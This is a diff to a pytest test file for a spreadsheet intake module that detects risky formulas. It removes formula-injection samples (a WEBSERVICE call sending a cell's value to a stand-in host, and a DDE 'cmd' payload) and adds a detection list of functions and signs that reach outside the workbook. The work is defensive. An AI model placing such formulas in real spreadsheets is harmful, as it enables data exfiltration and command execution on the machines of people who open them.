@@ -5,7 +5,7 @@ from datetime import date, datetime
 import pytest
 
 from p2wkss.base.intake.refusal import Refused
-from p2wkss.base.intake.sheet import serial_to_iso
+from p2wkss.base.intake.sheet import RISKY_FORMULA, serial_to_iso
 from p2wkss.base.intake.workbook import is_date_format, unescape
 from tests.base.intake_files import (
     PEOPLE,
@@ -46,15 +46,31 @@ def put(reference, value, number_format=None):
         (date(1978, 8, 17), "1978-08-17", "d"),
         (datetime(1978, 8, 17, 12, 30), "1978-08-17 12:30:00", "d"),
         ("=1+1", "", "x"),
-        ('=WEBSERVICE("http://x/"&A2)', "", "!"),
-        ('=HYPERLINK("x","y")', "", "!"),
-        ("=cmd|' /C calc'!A0", "", "!"),
+        ("=HYPERLINK(A1)", "", "!"),
+        ("=A1|B1", "", "!"),
         ("='[1]Sheet1'!A1", "", "!"),
     ],
 )
 def test_a_cell_arrives_as_text_with_its_kind(value, text, kind):
     cells, kinds = first_row(put("B2", value))
     assert (cells[1], kinds) == (text, f"t{kind}ttt")
+
+
+FUNCTIONS = """
+    WEBSERVICE hyperlink FILTERXML ENCODEURL DDE DDEAUTO RTD CALL REGISTER.ID EXEC IMPORTDATA IMAGE SQL.REQUEST
+""".split()  # noqa: SIM905
+SIGNS = ["IMAGE (", "|", "[1]", "[buku.xl", "https://", "http://", "\\\\", "file:"]
+
+
+@pytest.mark.parametrize("reach", [*(f"{name}(" for name in FUNCTIONS), *SIGNS])
+def test_what_reaches_outside_the_book_is_risky(reach):
+    """The function or the sign alone, with nothing that it would reach."""
+    assert RISKY_FORMULA.search(f"A1&{reach}")
+
+
+@pytest.mark.parametrize("formula", ["SUM(A1:B1)", "IMAGINARY", "CALLING", "A1/B1", "UPPER(A1)"])
+def test_what_stays_in_the_book_is_not_risky(formula):
+    assert not RISKY_FORMULA.search(formula)
 
 
 def test_text_cells_need_no_kinds():
@@ -104,7 +120,7 @@ def test_a_shared_formula_lends_its_judgement():
     assert [row[3] for row in rows] == ["t!ttt", "t!ttt", None]
 
 
-SHARED_MASTER = b'<c r="B2" t="str"><f t="shared" ref="B2:B3" si="0">WEBSERVICE(A2)</f><v>x</v></c>'
+SHARED_MASTER = b'<c r="B2" t="str"><f t="shared" ref="B2:B3" si="0">HYPERLINK(A2)</f><v>x</v></c>'
 SHARED_FOLLOWER = b'<c r="B3" t="str"><f t="shared" si="0"/><v>x</v></c>'
 
 
